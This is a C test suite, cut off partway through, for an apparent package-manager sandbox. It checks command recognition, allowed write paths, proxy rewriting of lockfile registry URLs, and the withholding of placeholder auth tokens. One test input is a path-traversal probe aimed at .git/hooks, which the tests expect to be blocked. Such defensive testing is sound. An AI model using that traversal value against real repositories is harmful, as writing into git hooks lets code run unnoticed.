/* test_manager.c: what each command means, how lockfile URLs are turned and turned back, and what of a
 * result is loaded, hostile trees among it. */
#include "base/file.h"
#include "manager/manager.h"

#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include <cmocka.h>

#define INSIDE SP_PROXY_ORIGIN "/https/"

/* ---- a home, a project and the root of a sandbox in a temporary directory ---- */

struct place {
    char top[64], home[96], project[96], root[96];
    struct sp_registries registries;
    struct sp_manager_plan plan;
    struct sp_arena arena;
    struct sp_load_list loads;
    struct sp_error err;
};

static int
remove_one(const char *path, const struct stat *status, int type, struct FTW *walk)
{
    (void)status, (void)type, (void)walk;
    return remove(path);
}

static void
place_free(struct place *place)
{
    sp_manager_plan_free(&place->plan);
    sp_registries_free(&place->registries);
    sp_load_list_free(&place->loads);
    sp_arena_free(&place->arena);
    nftw(place->top, remove_one, 32, FTW_DEPTH | FTW_PHYS);
}
#define autoplace __attribute__((cleanup(place_free)))

static void
make_directories(const char *path)
{
    char copy[PATH_MAX];
    snprintf(copy, sizeof(copy), "%s", path);
    for (char *slash = copy + 1; (slash = strchr(slash, '/')); slash++) {
        *slash = '\0';
        mkdir(copy, 0755);
        *slash = '/';
    }
}

static void
write_file(const char *directory, const char *name, const char *text)
{
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "%s/%s", directory, name);
    make_directories(path);
    /* not sp_file_write: hundreds of files need not reach the disk */
    sp_autofclose FILE *file = fopen(path, "w");
    assert_non_null(file);
    assert_int_equal(fwrite(text, 1, strlen(text), file), strlen(text));
}

static void
write_program(const char *directory, const char *name, const char *text)
{
    char path[PATH_MAX];
    write_file(directory, name, text);
    snprintf(path, sizeof(path), "%s/%s", directory, name);
    assert_int_equal(chmod(path, 0755), 0);
}

static void
place_open(struct place *place)
{
    *place = (struct place){ .top = "/tmp/sallyport-manager-XXXXXX" };
    assert_non_null(mkdtemp(place->top));
    snprintf(place->home, sizeof(place->home), "%s/home", place->top);
    snprintf(place->project, sizeof(place->project), "%s/home/project", place->top);
    snprintf(place->root, sizeof(place->root), "%s/root", place->top);
    mkdir(place->home, 0755);
    mkdir(place->project, 0755);
    mkdir(place->root, 0755);
}

/* Plans COMMAND (words divided by blanks) in DIRECTORY with ENV ("A=1 B=2") beside HOME and PATH. */
static int
plan_in(struct place *place, const char *directory, const char *command, const char *env_text, bool as_root)
{
    char words[1024], env_words[1024], path[512], home[128];
    const char *argv[32] = { NULL }, *env[16] = { home, path, NULL };
    size_t argc = 0, envc = 2;
    snprintf(words, sizeof(words), "%s", command);
    snprintf(env_words, sizeof(env_words), "%s", env_text ? env_text : "");
    snprintf(home, sizeof(home), "HOME=%s", place->home);
    snprintf(path, sizeof(path), "PATH=%s/.pyenv/shims:%s/bin:/usr/bin:/bin", place->home, place->home);
    char *rest = NULL;
    for (char *word = strtok_r(words, " ", &rest); word; word = strtok_r(NULL, " ", &rest))
        argv[argc++] = word;
    for (char *word = strtok_r(env_words, " ", &rest); word; word = strtok_r(NULL, " ", &rest))
        env[envc++] = word;
    sp_manager_plan_free(&place->plan);
    sp_registries_free(&place->registries);
    const struct sp_registry_sources sources = {
        .home = place->home, .root = place->top, .project = directory, .env = env, .argv = argv
    };
    if (sp_registries_read(&place->registries, &sources, &place->err) < 0)
        return -1;
    const struct sp_manager_request request = { .argv = argv,
                                                .env = env,
                                                .home = place->home,
                                                .cwd = directory,
                                                .as_root = as_root,
                                                .registries = &place->registries };
    int status = sp_manager_plan(&place->plan, &request, &place->err);
    return status;
}

static void
plan(struct place *place, const char *command)
{
    if (plan_in(place, place->project, command, NULL, false) < 0)
        fail_msg("%s: %s", command, place->err.text);
}

/* Whether LIST holds HOME-relative NAME ("~/x"), project-relative ("./x") or absolute. */
static bool
holds(const struct place *place, const struct sp_path_list *list, const char *name)
{
    char path[PATH_MAX];
    if (name[0] == '~')
        snprintf(path, sizeof(path), "%s%s", place->home, name + 1);
    else if (name[0] == '.' && (name[1] == '/' || !name[1]))
        snprintf(path, sizeof(path), "%s%s", place->project, name + 1);
    else
        snprintf(path, sizeof(path), "%s", name);
    for (size_t i = 0; i < list->count; i++)
        if (!strcmp(list->items[i], path))
            return true;
    return false;
}

static void
show(const char *title, const struct sp_path_list *list)
{
    print_message("%s:", title);
    for (size_t i = 0; i < list->count; i++)
        print_message(" %s", list->items[i]);
    print_message("\n");
}

#define assert_holds(place, list, name)                                                                      \
    do {                                                                                                     \
        if (!holds(place, &(place)->plan.list, name)) {                                                      \
            show(#list, &(place)->plan.list);                                                                \
            fail_msg("%s should hold %s", #list, name);                                                      \
        }                                                                                                    \
    } while (0)

static const char *
env_of(const struct sp_manager_plan *found, const char *name)
{
    for (size_t i = 0; i < found->env_count; i++)
        if (!strncmp(found->env[i], name, strlen(name)) && found->env[i][strlen(name)] == '=')
            return found->env[i] + strlen(name) + 1;
    return "";
}

/* ---- which manager ---- */

static void
commands_are_recognised(void **state)
{
    (void)state;
    static const struct {
        const char *words[8];
        const char *id;
    } cases[] = {
        { { "npm", "ci" }, "npm" },
        { { "/usr/bin/npm", "install" }, "npm" },
        { { "npx", "cowsay" }, "npm" },
        { { "env", "X=1", "npm", "ci" }, "npm" },
        { { "env", "-u", "CI", "A=b", "pip", "install", "six" }, "pip" },
        { { "corepack", "npm", "ci" }, "npm" },
        { { "corepack", "yarn@4.1.0", "install" }, "yarn" },
        { { "corepack", "pnpm", "i" }, "pnpm" },
        { { "corepack", "enable" }, "other" },
        { { "yarn" }, "yarn" },
        { { "yarnpkg", "add", "x" }, "yarn" },
        { { "pnpm", "i" }, "pnpm" },
        { { "pip", "install" }, "pip" },
        { { "pip3.11", "list" }, "pip" },
        { { "/v/bin/pip3", "install" }, "pip" },
        { { "pipx", "install" }, "other" },
        { { "python", "-m", "pip", "install" }, "pip" },
        { { "python3.12", "-I", "-m", "pip" }, "pip" },
        { { "python3", "-Im", "pip" }, "pip" },
        { { "python3", "-W", "ignore", "-m", "pip" }, "pip" },
        { { "python3", "-m", "venv", "v" }, "other" },
        { { "python3", "-c", "-m", "pip" }, "other" },
        { { "python3", "setup.py", "-m", "pip" }, "other" },
        { { "uv", "sync" }, "uv" },
        { { "uv", "pip", "install" }, "uv" },
        { { "uvx", "ruff" }, "uv" },
        { { "make" }, "other" },
        { { "bash", "-c", "npm ci" }, "other" },
        { { "env" }, "other" },
        { { NULL }, "other" },
    };
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        const struct sp_manager *found = sp_manager_find(cases[i].words);
        if (strcmp(found->id, cases[i].id) != 0)
            fail_msg("case %zu (%s %s): %s, expected %s", i, cases[i].words[0], cases[i].words[1], found->id,
                     cases[i].id);
    }
}

/* ---- npm ---- */

static void
npm_outputs_by_subcommand(void **state)
{
    (void)state;
    static const struct {
        const char *command;
        bool lands;
        const char *may[3], *may_not[3];
    } cases[] = {
        { "npm ci",
          true,
          { "node_modules/x/index.js" },
          { "package.json", "package-lock.json", ".git/hooks/x" } },
        { "npm clean-install", true, { "node_modules/x" }, { "package.json" } },
        { "npm install x", true, { "node_modules/x", "package.json", "package-lock.json" }, { "src/a.js" } },
        { "npm --loglevel silent i", true, { "node_modules", "npm-shrinkwrap.json" }, { "node_modulesx" } },
        { "npm i --prefix . -w packages/a",
          true,
          { "packages/a/node_modules/y" },
          { "packages/b/node_modules" } },
        { "npm audit fix", true, { "package-lock.json" }, { ".npmrc" } },
        { "npm audit", false, { NULL }, { "node_modules/x" } },
        { "npm run build", false, { NULL }, { "node_modules/x", "dist" } },
        { "npm test", false, { NULL }, { "node_modules/x" } },
        { "npm", false, { NULL }, { "node_modules/x" } },
        { "npx cowsay", false, { NULL }, { "node_modules/x" } },
        { "npx install", false, { NULL }, { "node_modules/x" } },
    };
    autoplace struct place place;
    place_open(&place);
    write_file(place.project, "package.json", "{\"workspaces\": [\"packages/*\", \"!packages/b\"]}");
    write_file(place.project, "packages/a/package.json", "{}");
    write_file(place.project, "packages/b/package.json", "{}");
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        char path[PATH_MAX];
        plan(&place, cases[i].command);
        if (place.plan.lands != cases[i].lands)
            fail_msg("%s: lands %d", cases[i].command, place.plan.lands);
        for (size_t c = 0; c < 3 && cases[i].may[c]; c++) {
            snprintf(path, sizeof(path), "%s/%s", place.project, cases[i].may[c]);
            if (!sp_manager_may_land(&place.plan, path))
                fail_msg("%s: %s should be let land", cases[i].command, path);
        }
        for (size_t c = 0; c < 3 && cases[i].may_not[c]; c++) {
            snprintf(path, sizeof(path), "%s/%s", place.project, cases[i].may_not[c]);
            if (sp_manager_may_land(&place.plan, path))
                fail_msg("%s: %s should not land", cases[i].command, path);
        }
        snprintf(path, sizeof(path), "%s/node_modules/../.git/hooks/x", place.project);
        assert_false(sp_manager_may_land(&place.plan, path));
    }
}

static void
npm_finds_the_root_of_its_project(void **state)
{
    (void)state;
    autoplace struct place place;
    char directory[PATH_MAX];
    place_open(&place);
    write_file(place.project, "package.json", "{\"workspaces\": {\"packages\": [\"packages/**\"]}}");
    write_file(place.project, "packages/deep/a/package.json", "{}");
    write_file(place.project, "other/package.json", "{}");
    write_file(place.project, "packages/deep/a/src/x.js", "");
    snprintf(directory, sizeof(directory), "%s/packages/deep/a/src", place.project);
    assert_int_equal(plan_in(&place, directory, "npm ci", NULL, false), 0);
    assert_string_equal(place.plan.project, place.project);
    snprintf(directory, sizeof(directory), "%s/other", place.project);
    assert_int_equal(plan_in(&place, directory, "npm ci", NULL, false), 0);
    assert_string_equal(place.plan.project, directory);
    assert_int_equal(plan_in(&place, place.project, "npm ci -C other", NULL, false), 0);
    assert_string_equal(place.plan.project, directory);
}

static void
npm_global_lands_beneath_its_prefix(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    write_file(place.home, ".npmrc",
               "prefix=~/.npm-global\nsave-exact=true\n//r.example/:_authToken=secret\n");
    plan(&place, "npm install -g typescript");
    assert_holds(&place, trees, "~/.npm-global/lib/node_modules");
    assert_holds(&place, outputs, "~/.npm-global/bin");
    assert_holds(&place, modules, "~/.npm-global/lib/node_modules");
    assert_string_equal(env_of(&place.plan, "npm_config_save_exact"), "true");
    for (size_t i = 0; i < place.plan.env_count; i++)
        assert_null(strstr(place.plan.env[i], "secret"));
    /* node found beneath the home: its toolchain is shown, read-only */
    assert_int_equal(plan_in(&place, place.project, "npm i -g x --prefix /opt/p", NULL, false), 0);
    assert_holds(&place, trees, "/opt/p/bin");
}

static void
npm_is_pointed_at_each_registry(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    write_file(place.home, ".npmrc",
               "registry=https://registry.corp.example/npm/\n@other:registry=https://other.example/\n"
               "cache=/var/cache/npm\n");
    write_file(place.project, "package.json", "{}");
    write_file(place.project, ".npmrc",
               "@corp:registry = https://registry.corp.example/private/\n"
               "//registry.corp.example/private/:_authToken=s3cret\n# @x:registry=https://x.example/\n");
    plan(&place, "npm ci --registry=https://cli.example/npm/ https://files.example/a.tgz");
    assert_string_equal(place.plan.argv[2], "--registry=" INSIDE "cli.example/npm/");
    assert_string_equal(place.plan.argv[3], INSIDE "files.example/a.tgz");
    plan(&place, "npm ci");
    assert_string_equal(env_of(&place.plan, "npm_config_registry"), INSIDE "registry.corp.example/npm/");
    assert_string_equal(env_of(&place.plan, "npm_config_@other:registry"), INSIDE "other.example/");
    assert_string_equal(env_of(&place.plan, "npm_config_cache"), "/var/cache/npm");
    assert_holds(&place, caches, "/var/cache/npm/_cacache");
    assert_string_equal(place.plan.npmjs_from, "https://registry.corp.example/npm/");
    assert_int_equal(place.plan.rewritten_count, 1);
    assert_string_equal(place.plan.rewritten[0].bytes,
                        "@corp:registry = " INSIDE "registry.corp.example/private/\n"
                        "//registry.corp.example/private/:_authToken=withheld\n"
                        "# @x:registry=https://x.example/\n");
}

/* ---- yarn, pnpm, uv, other ---- */

static void
yarn_is_told_apart_by_its_project(void **state)
{
    (void)state;
    static const struct {
        const char *file, *text, *id;
    } cases[] = {
        { "yarn.lock", "# yarn lockfile v1\n\n\n", "yarn" },
        { "yarn.lock", "# generated\n\n__metadata:\n  version: 8\n", "yarn-berry" },
        { ".yarnrc.yml", "nodeLinker: pnp\n", "yarn-berry" },
        { "package.json", "{\"packageManager\": \"yarn@1.22.22\"}", "yarn" },
        { "package.json", "{\"packageManager\": \"yarn@4.1.0+sha512.abc\"}", "yarn-berry" },
        { "package.json", "{}", "yarn" },
    };
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        autoplace struct place place;
        place_open(&place);
        write_file(place.project, cases[i].file, cases[i].text);
        plan(&place, "yarn install");
        if (strcmp(place.plan.manager->id, cases[i].id) != 0)
            fail_msg("case %zu: %s, expected %s", i, place.plan.manager->id, cases[i].id);
        assert_true(place.plan.lands);
        assert_holds(&place, outputs, "./yarn.lock");
        plan(&place, "yarn run build");
        assert_false(place.plan.lands);
    }
}

static void
pnpm_knows_its_workspace_and_store(void **state)
{
    (void)state;
    autoplace struct place place;
    char directory[PATH_MAX];
    place_open(&place);
    write_file(place.project, "pnpm-workspace.yaml",
               "packages:\n  - 'apps/*'\n  # no\nonlyBuilt:\n  - nothing/*\n");
    write_file(place.project, "apps/web/package.json", "{}");
    write_file(place.project, "nothing/x/package.json", "{}");
    snprintf(directory, sizeof(directory), "%s/apps/web", place.project);
    assert_int_equal(plan_in(&place, directory, "pnpm -r add left-pad", NULL, false), 0);
    assert_string_equal(place.plan.project, place.project);
    assert_holds(&place, outputs, "./apps/web/node_modules");
    assert_holds(&place, outputs, "./pnpm-lock.yaml");
    assert_false(holds(&place, &place.plan.outputs, "./nothing/x/node_modules"));
    assert_holds(&place, caches, "~/.local/share/pnpm/store");
    plan(&place, "pnpm exec tsc");
    assert_false(place.plan.lands);
}

static void
uv_lands_the_venv_and_its_lock(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    write_file(place.project, "pyproject.toml", "[project]\nname = \"p\"\nversion = \"1\"\n");
    plan(&place, "uv sync");
    assert_holds(&place, outputs, "./.venv");
    assert_holds(&place, outputs, "./uv.lock");
    assert_false(holds(&place, &place.plan.outputs, "./pyproject.toml"));
    assert_string_equal(env_of(&place.plan, "UV_DEFAULT_INDEX"), INSIDE "pypi.org/simple");
    plan(&place, "uv add six");
    assert_holds(&place, outputs, "./pyproject.toml");
    plan(&place, "uv lock");
    assert_false(holds(&place, &place.plan.outputs, "./.venv"));
    plan(&place, "uv run main.py");
    assert_false(place.plan.lands);
    plan(&place, "uv pip install --target lib --index-url https://u:p@pypi.corp.example/simple six");
    assert_holds(&place, outputs, "./lib");
    assert_string_equal(place.plan.argv[6], INSIDE "pypi.corp.example/simple");
    assert_int_equal(place.registries.credential_count, 1);
    assert_string_equal(place.registries.credentials[0].authorization, "Basic dTpw");
}

static void
other_command_lands_nothing_and_reaches_registries(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan(&place, "make install");
    assert_string_equal(place.plan.manager->id, "other");
    assert_false(place.plan.lands);
    assert_string_equal(env_of(&place.plan, "npm_config_registry"), INSIDE "registry.npmjs.org/");
    assert_string_equal(env_of(&place.plan, "PIP_INDEX_URL"), INSIDE "pypi.org/simple/");
    assert_string_equal(env_of(&place.plan, "YARN_UNSAFE_HTTP_WHITELIST"), SP_PROXY_ADDRESS);
    assert_string_equal(env_of(&place.plan, "UV_PYTHON_DOWNLOADS"), "never");
    assert_int_equal(place.plan.outputs.count, 0);
}

static void
host_proxies_do_not_enter(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    assert_int_equal(plan_in(&place, place.project, "npm ci", "https_proxy=http://proxy.example:3128", false),
                     0);
    assert_string_equal(env_of(&place.plan, "no_proxy"), SP_PROXY_ADDRESS ",localhost");
    bool emptied = false;
    for (size_t i = 0; i < place.plan.env_count; i++)
        emptied |= !strcmp(place.plan.env[i], "https_proxy=");
    assert_true(emptied);
}

/* ---- pip ---- */

static void
make_venv(const struct place *place, const char *name)
{
    char text[256], file[160];
    snprintf(file, sizeof(file), "%s/pyvenv.cfg", name);
    write_file(place->project, file, "home = /usr/bin\nversion = 3.11.7\n");
    snprintf(file, sizeof(file), "%s/bin/python3", name);
    write_program(place->project, file, "");
    snprintf(text, sizeof(text), "#!%s/%s/bin/python3\nimport pip\n", place->project, name);
    snprintf(file, sizeof(file), "%s/bin/pip", name);
    write_program(place->project, file, text);
}

static void
pip_fills_the_venv_of_its_shebang(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    make_venv(&place, "v");
    plan(&place, "v/bin/pip install six");
    assert_holds(&place, outputs, "./v");
    assert_holds(&place, modules, "./v/lib/python3.11/site-packages");
    assert_int_equal(place.plan.trees.count, 0);
    plan(&place, "v/bin/python3 -m pip install six");
    assert_holds(&place, outputs, "./v");
    /* from elsewhere the venv is a tree of its own */
    char command[256];
    snprintf(command, sizeof(command), "%s/v/bin/pip install six", place.project);
    mkdir("/tmp/sallyport-manager-empty", 0755);
    assert_int_equal(plan_in(&place, "/tmp/sallyport-manager-empty", command, NULL, false), 0);
    rmdir("/tmp/sallyport-manager-empty");
    assert_holds(&place, trees, "./v");
}

static void
pip_through_a_pyenv_shim(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    char text[256];
    write_program(place.home, ".pyenv/shims/pip", "#!/usr/bin/env bash\nexec pyenv exec pip\n");
    write_program(place.home, ".pyenv/versions/3.11.7/bin/python3.11", "");
    write_program(place.home, ".pyenv/versions/3.12.1/bin/python3.12", "");
    write_file(place.home, ".pyenv/versions/3.11.7/lib/python3.11/site-packages/README", "");
    write_file(place.home, ".pyenv/versions/3.12.1/lib/python3.12/site-packages/README", "");
    write_file(place.home, ".pyenv/version", "3.11.7\n");
    snprintf(text, sizeof(text), "#!%s/.pyenv/versions/3.11.7/bin/python3.11\n", place.home);
    write_program(place.home, ".pyenv/versions/3.11.7/bin/pip", text);
    snprintf(text, sizeof(text), "#!%s/.pyenv/versions/3.12.1/bin/python3.12\n", place.home);
    write_program(place.home, ".pyenv/versions/3.12.1/bin/pip", text);
    plan(&place, "pip install six");
    assert_holds(&place, outputs, "~/.pyenv/versions/3.11.7/lib/python3.11/site-packages");
    assert_holds(&place, trees, "~/.pyenv/versions/3.11.7/bin");
    assert_holds(&place, readable, "~/.pyenv");
    write_file(place.project, ".python-version", "3.12\n");
    plan(&place, "pip install six");
    assert_holds(&place, modules, "~/.pyenv/versions/3.12.1/lib/python3.12/site-packages");
    assert_int_equal(plan_in(&place, place.project, "pip install six", "PYENV_VERSION=3.11.7", false), 0);
    assert_holds(&place, modules, "~/.pyenv/versions/3.11.7/lib/python3.11/site-packages");
}

static void
pip_outputs_by_option(void **state)
{
    (void)state;
    static const struct {
        const char *command;
        const char *output; /* NULL: does not land */
    } cases[] = {
        { "v/bin/pip install -t lib six", "./lib" },
        { "v/bin/pip install -Ut lib six", "./lib" },
        { "v/bin/pip install --target=/srv/x six", "/srv/x" },
        { "v/bin/pip install --prefix p six", "./p" },
        { "v/bin/pip install --root r six", "./r" },
        { "v/bin/pip install --user six", "~/.local/lib/python3.11/site-packages" },
        { "v/bin/pip install -e .", "./*.egg-info" },
        { "v/bin/pip uninstall -y six", "./v" },
        { "v/bin/pip download six", "./*.whl" },
        { "v/bin/pip download -d wheels six", "./wheels" },
        { "v/bin/pip wheel -w w six", "./w" },
        { "v/bin/pip install --dry-run six", NULL },
        { "v/bin/pip list", NULL },
        { "v/bin/pip freeze", NULL },
        { "v/bin/pip", NULL },
    };
    autoplace struct place place;
    place_open(&place);
    make_venv(&place, "v");
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        plan(&place, cases[i].command);
        if (place.plan.lands != (cases[i].output != NULL))
            fail_msg("%s: lands %d", cases[i].command, place.plan.lands);
        if (cases[i].output && !holds(&place, &place.plan.outputs, cases[i].output)) {
            show(cases[i].command, &place.plan.outputs);
            fail_msg("%s: %s is not among the outputs", cases[i].command, cases[i].output);
        }
    }
    char path[PATH_MAX];
    plan(&place, "v/bin/pip download six");
    snprintf(path, sizeof(path), "%s/six-1.17.0-py2.py3-none-any.whl", place.project);
    assert_true(sp_manager_may_land(&place.plan, path));
    snprintf(path, sizeof(path), "%s/sub/six.whl", place.project);
    assert_false(sp_manager_may_land(&place.plan, path));
    snprintf(path, sizeof(path), "%s/.hidden.whl", place.project);
    assert_false(sp_manager_may_land(&place.plan, path));
}

static void
pip_requirement_files_are_rewritten_with_their_includes(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    make_venv(&place, "v");
    write_file(place.project, "requirements.txt",
               "-r more/extra.txt\n-r requirements.txt\n-r ../../outside.txt\nsix\n");
    write_file(place.project, "more/extra.txt", "-i https://u:p@pypi.corp.example/simple\n");
    write_file(place.top, "outside.txt", "-i https://outside.example/simple\n");
    plan(&place, "v/bin/pip install -r requirements.txt -ihttps://cli.example/simple");
    assert_holds(&place, manifests, "./requirements.txt");
    assert_int_equal(place.plan.rewritten_count, 1);
    assert_string_equal(place.plan.rewritten[0].bytes, "-i " INSIDE "pypi.corp.example/simple\n");
    assert_string_equal(place.plan.argv[4], "-i" INSIDE "cli.example/simple");
}

static void
user_settings_come_along_and_secrets_do_not(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    make_venv(&place, "v");
    write_file(place.home, ".config/pip/pip.conf",
               "[global]\nindex-url = https://u:s3cret@pypi.corp.example/simple\nno-binary = six\n  idna\n"
               "[install]\npre = yes\n[download]\nno-deps = yes\n");
    plan(&place, "v/bin/pip install six");
    assert_string_equal(env_of(&place.plan, "PIP_INDEX_URL"), INSIDE "pypi.corp.example/simple/");
    assert_string_equal(env_of(&place.plan, "PIP_NO_BINARY"), "six idna");
    assert_string_equal(env_of(&place.plan, "PIP_PRE"), "yes");
    assert_string_equal(env_of(&place.plan, "PIP_NO_DEPS"), "");
    for (size_t i = 0; i < place.plan.env_count; i++)
        assert_null(strstr(place.plan.env[i], "s3cret"));
}

static void
toolchains_are_shown_and_credentials_are_not(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    write_program(place.home, "bin/tool", "#!/bin/sh\n");
    write_program(place.home, ".nvm/versions/node/v20/bin/node", "");
    write_file(place.home, ".cargo/credentials.toml", "token");
    write_program(place.home, ".cargo/bin/cargo", "");
    char env[700];
    snprintf(env, sizeof(env),
             "PATH=%s/bin:%s/.nvm/versions/node/v20/bin:%s/.cargo/bin:%s:%s/missing:/usr/bin", place.home,
             place.home, place.home, place.home, place.home);
    /* "env PATH=..." before the command is its PATH */
    char command[800];
    snprintf(command, sizeof(command), "env %s tool", env);
    assert_int_equal(plan_in(&place, place.project, command, NULL, false), 0);
    assert_holds(&place, readable, "~/bin");
    assert_holds(&place, readable, "~/.nvm");
    assert_holds(&place, readable, "~/.cargo/bin");
    assert_false(holds(&place, &place.plan.readable, "~/.cargo"));
    assert_false(holds(&place, &place.plan.readable, "~"));
    assert_int_equal(place.plan.readable.count, 3);
}

/* ---- lockfile URLs ---- */

static void
read_fixture(const char *name, struct sp_buffer *text)
{
    char path[PATH_MAX];
    struct sp_error err;
    snprintf(path, sizeof(path), "%s/lockfiles/urls/%s", getenv("SALLYPORT_TESTS_DIR"), name);
    if (sp_file_read(path, 1 << 20, text, &err) < 0)
        fail_msg("%s", err.text);
}

static size_t
count_of(const char *text, const char *word)
{
    size_t count = 0;
    for (; (text = strstr(text, word)); text += strlen(word))
        count++;
    return count;
}

static void
lockfile_urls_go_in_and_come_back_byte_for_byte(void **state)
{
    (void)state;
    static const struct {
        const char *file;
        size_t changed;
        const char *there[4], *untouched[4];
    } cases[] = {
        { "npm/package-lock.json",
          5,
          { INSIDE "registry.corp.example/npm/@types/ms/-/ms-2.1.0.tgz",
            INSIDE "registry.corp.example/npm/private/-/private-1.0.0.tgz\"",
            INSIDE "registry.npmjs.org/left-pad" },
          { "git+https://git.corp.example", "\"https://registry.npmjs.org/not-a-field\"" } },
        { "npm/package.json", 1, { INSIDE "registry.npmjs.org/ms/-/ms-2.1.3.tgz" }, { NULL } },
        { "yarn1/yarn.lock",
          6,
          { "\"ms@" INSIDE "registry.npmjs.org/ms/-/ms-2.1.3.tgz\":",
            "resolved \"" INSIDE "registry.corp.example/npm/private/-/private-1.0.0.tgz#5b8a",
            "    ms \"" INSIDE "registry.npmjs.org/ms/-/ms-2.1.3.tgz\"" },
          { "git+https://git.corp.example", "\"from-git@git+https" } },
        { "berry/yarn.lock",
          4,
          { "__archiveUrl=http%3A%2F%2F127.83.80.1%3A4873%2Fhttps%2Fregistry.corp.example%2Fnpm",
            "resolution: \"ms@" INSIDE, "    ms: \"" INSIDE },
          { "\"from-git@https://git.corp.example/team/from-git.git\":" } },
        { "pnpm/pnpm-lock.yaml",
          6,
          { "tarball: " INSIDE "registry.corp.example/npm/private/-/private-1.0.0.tgz}",
            "  ms@" INSIDE "registry.npmjs.org/ms/-/ms-2.1.3.tgz: {}", "      ms: " INSIDE },
          { "deprecated: see https://registry.corp.example/moved" } },
        { "uv/uv.lock",
          9,
          { "registry = \"" INSIDE "pypi.corp.example/simple\"", "url = \"" INSIDE "files.pythonhosted.org/",
            "source = { url = \"" INSIDE "pypi.corp.example/files/private-1.0.0.tar.gz\"",
            "index = \"" INSIDE "pypi.corp.example/simple\"" },
          { "git = \"https://git.corp.example" } },
        { "uv/pyproject.toml",
          2,
          { "url = \"" INSIDE "pypi.corp.example/simple\"", "\"private @ " INSIDE },
          { "url = \"https://pypi.corp.example/about\"" } },
        { "pip/requirements.txt",
          5,
          { "--index-url " INSIDE "pypi.corp.example/simple\n",
            "--extra-index-url=" INSIDE "pypi.org/simple\n", "private @ " INSIDE, "-f " INSIDE },
          { "# index: https://pypi.org/simple", "git+https://git.corp.example", "# not https://pypi.org" } },
    };
    static const char *const env[] = { "CORP_USER=ci", "CORP_TOKEN=t0ken", NULL };
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        autoplace struct place place;
        place_open(&place);
        sp_autobuffer struct sp_buffer text = { 0 }, inside = { 0 }, back = { 0 }, again = { 0 };
        size_t changed, restored;
        read_fixture(cases[i].file, &text);
        place.plan.urls.arena = &place.plan.arena;
        if (sp_manager_rewrite_text(&inside, cases[i].file, text.bytes, text.length, env, &place.registries,
                                    &place.plan.urls, &changed, &place.err) < 0)
            fail_msg("%s", place.err.text);
        if (changed != cases[i].changed)
            fail_msg("%s: %zu changed, expected %zu\n%s", cases[i].file, changed, cases[i].changed,
                     inside.bytes);
        for (size_t c = 0; c < 4 && cases[i].there[c]; c++)
            if (!strstr(inside.bytes, cases[i].there[c]))
                fail_msg("%s: lacks %s\n%s", cases[i].file, cases[i].there[c], inside.bytes);
        for (size_t c = 0; c < 4 && cases[i].untouched[c]; c++)
            if (!strstr(inside.bytes, cases[i].untouched[c]))
                fail_msg("%s: %s was touched\n%s", cases[i].file, cases[i].untouched[c], inside.bytes);
        /* no credential is left, and those that were there are the proxy's */
        assert_null(strstr(inside.bytes, "t0"));
        if (strstr(text.bytes, "ci:t0") || strstr(text.bytes, "CORP_TOKEN"))
            assert_int_equal(place.registries.credential_count, 1);
        /* a second time changes nothing */
        assert_int_equal(sp_manager_rewrite_text(&again, cases[i].file, inside.bytes, inside.length, env,
                                                 &place.registries, NULL, &restored, &place.err),
                         0);
        assert_int_equal(restored, 0);
        assert_int_equal(
            sp_manager_restore_text(&place.plan, &back, inside.bytes, inside.length, &restored, &place.err),
            0);
        assert_int_equal(restored, changed);
        assert_string_equal(back.bytes, text.bytes);
        assert_int_equal(count_of(back.bytes, SP_PROXY_ADDRESS), 0);
    }
}

static void
notes_in_node_modules_go_in_and_come_back(void **state)
{
    (void)state;
    static const struct {
        const char *path, *text, *inside;
    } cases[] = {
        { "/p/node_modules/.modules.yaml",
          "{\n  \"a\": \"https://no.example/\",\n  \"registries\": {\n    \"default\": "
          "\"https://r.example/\",\n    "
          "\"@jsr\": \"https://npm.jsr.io/\"\n  },\n  \"b\": \"https://no.example/\"\n}",
          "{\n  \"a\": \"https://no.example/\",\n  \"registries\": {\n    \"default\": \"" INSIDE
          "r.example/\",\n    \"@jsr\": \"https://npm.jsr.io/\"\n  },\n  \"b\": \"https://no.example/\"\n}" },
        { "/p/node_modules/.modules.yaml", "registries:\n  default: https://r.example/\nstoreDir: /s\n",
          "registries:\n  default: " INSIDE "r.example/\nstoreDir: /s\n" },
        { "/p/node_modules/.yarn-integrity",
          "{\"topLevelPatterns\": [\"ms@https://r.example/ms.tgz\"], \"lockfileEntries\": {\"@s/x@1.0.0\": "
          "\"https://r.example/x.tgz#5b\"}}",
          "{\"topLevelPatterns\": [\"ms@" INSIDE
          "r.example/ms.tgz\"], \"lockfileEntries\": {\"@s/x@1.0.0\": \"" INSIDE "r.example/x.tgz#5b\"}}" },
    };
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        autoplace struct place place;
        place_open(&place);
        sp_autobuffer struct sp_buffer inside = { 0 }, back = { 0 };
        size_t changed;
        assert_int_equal(sp_manager_rewrite_text(&inside, cases[i].path, cases[i].text, strlen(cases[i].text),
                                                 NULL, &place.registries, NULL, &changed, &place.err),
                         0);
        assert_string_equal(inside.bytes, cases[i].inside);
        assert_int_equal(
            sp_manager_restore_text(&place.plan, &back, inside.bytes, inside.length, &changed, &place.err),
            0);
        assert_string_equal(back.bytes, cases[i].text);
    }
}

static void
credentials_come_back_to_no_line_that_had_none(void **state)
{
    (void)state;
    static const char text[] =
        "[[package]]\nsource = { url = \"https://u:p@h.example/x\" }\n"
        "sdist = { url = \"https://h.example/x\" }\nwheels = [{ url = \"https://U:q@h.example/y\" }]\n";
    autoplace struct place place;
    place_open(&place);
